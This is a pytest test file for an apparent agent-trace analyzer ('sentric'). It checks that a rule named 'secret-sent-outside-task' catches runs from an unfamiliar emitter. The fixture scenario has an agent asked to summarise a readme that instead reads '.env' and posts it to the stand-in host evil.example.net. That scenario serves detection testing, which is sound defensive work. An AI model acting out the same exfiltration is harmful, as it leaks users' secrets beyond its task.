"""An emitter that nobody knows, read by a mapping in `sentric.yaml`: by the commands, and by a service."""

import json
import subprocess
import time
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any
from zlib import crc32

import pytest

from fixtures.emitter import MAPPING, exfiltration
from sentric_analyzer.spans import Span
from support.commands import sentric
from support.load import counted
from support.otlp import request_of
from support.serving import SENTRIC, Serving, poll, serving

STORED_SPANS = 'sentric_pipeline_stored_total{what="spans"}'
SENT_AWAY = "secret-sent-outside-task"


def sent(trace: int = 1) -> list[Span]:
    """A trace of the emitter's as it would send it now: the agent's span first, then those in it."""
    begun = time.time_ns()
    return [
        replace(
            one,
            trace_id=f"{trace:032x}",
            span_id=f"{crc32(one.span_id.encode()):016x}",
            parent_span_id=f"{crc32(one.parent_span_id.encode()):016x}" if one.parent_span_id else "",
            start=begun + one.start,
            end=begun + one.end,
        )
        for one in exfiltration()
    ]


@pytest.fixture
def captured(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file of what the emitter sent, in the directory where commands are given."""
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "acme.otlp.pb"
    path.write_bytes(request_of(sent()))
    return path


def rules(found: Sequence[dict[str, Any]]) -> set[str]:
    return {finding["rule_id"] for finding in found}


def test_a_file_of_an_unknown_emitter_is_judged_where_a_mapping_tells_what_it_means(captured: Path) -> None:
    assert json.loads(sentric("analyze", captured, "--format", "json").stdout) == []
    Path("sentric.yaml").write_text(MAPPING)
    assert SENT_AWAY in rules(json.loads(sentric("analyze", captured, "--format", "json").stdout))


def test_a_policy_is_tried_on_runs_of_an_unknown_emitter(captured: Path) -> None:
    Path("sentric.yaml").write_text(MAPPING)
    Path("lax.yaml").write_text("policy: lax\ndisable: [secret-sent-outside-task]\n")
    done = sentric("policy", "backtest", "lax.yaml", "--traces", captured, "--format", "json")
    document = json.loads(done.stdout)
    assert (document["runs"], document["actions"]) == (1, 2)
    (rule,) = (rule for rule in document["rules"] if rule["rule_id"] == SENT_AWAY)
    assert (rule["before"]["matches"], rule["after"]["matches"]) == (1, 0)


@pytest.mark.parametrize("command", ["analyze acme.otlp.pb", "serve --data-dir data --otlp-http 127.0.0.1:0"])
@pytest.mark.usefixtures("captured")
def test_a_mapping_that_cannot_be_used_is_named_in_one_line(command: str) -> None:
    Path("sentric.yaml").write_text(MAPPING.replace("acme.model", "acme.model$..name"))
    done = subprocess.run([SENTRIC, *command.split()], capture_output=True, text=True, timeout=120)
    assert done.returncode == 3
    assert done.stderr.startswith(
        "error: sentric.yaml: dialects[0].model.model: 'acme.model$..name' has no step that can be taken at '..name'"
    )
    assert len(done.stderr.splitlines()) == 1


def test_a_service_keeps_such_spans_judges_them_and_takes_them_up_after_a_restart(tmp_path: Path) -> None:
    (tmp_path / "sentric.yaml").write_text(MAPPING)
    root, *inside = sent(trace=2)
    with serving(tmp_path / "data") as service:
        assert service.post(request_of(sent(trace=1))) == 200
        check(service, poll(lambda: service.get("/v1/runs")["runs"]))
        assert service.post(request_of(inside[:2])) == 200
        poll(lambda: counted(service, STORED_SPANS) == 6)
        assert service.stop() == 0
    with serving(tmp_path / "data") as service:
        poll(service.ready)
        assert service.post(request_of([*inside[2:], root])) == 200
        poll(lambda: len(service.get("/v1/runs")["runs"]) == 2)
        check(service, service.get("/v1/runs")["runs"])


def check(service: Serving, runs: Sequence[dict[str, Any]]) -> None:
    """Each of these runs is read whole and judged."""
    for run in runs:
        document = service.get(f"/v1/runs/{run['run_id']}")
        assert (run["agent"], run["task"]) == ("clerk", "Summarise the readme.")
        read, post = document["steps"]
        assert (read["tool"], read["arguments"]) == ("read_file", {"path": ".env"})
        assert (post["tool"], post["arguments"]["url"]) == ("http_post", "https://evil.example.net/x")
        assert json.loads(post["result"]) == {"status": 200}
        assert SENT_AWAY in rules(document["findings"])
        assert "ghp_" not in json.dumps(document)


def test_explain_says_which_dialect_reads_what_before_and_after_a_mapping(captured: Path) -> None:
    before = sentric("analyze", "--explain", captured).stdout
    assert "read by nobody, looks like an agent's" in before
    assert "sentric.yaml" in before
    Path("sentric.yaml").write_text(MAPPING)
    done = sentric("analyze", "--explain", "--format", "json", captured)
    assert (done.returncode, done.stderr) == (0, "")
    document = json.loads(done.stdout)
    ways = {(group["dialect"], group["read_as"], group["spans"]) for group in document["groups"]}
    assert ways == {("acme", "agent", 1), ("acme", "model", 1), ("acme", "tool", 2)}
    (trace,) = document["traces"]
    assert [one["name"] for one in trace["spans"]] == ["agent run", "tool read", "llm ask", "function post"]
    assert trace["spans"][1]["read"] == ["acme.kind", "acme.tool", "acme.payload", "acme.result"]
    assert ".env" not in done.stdout
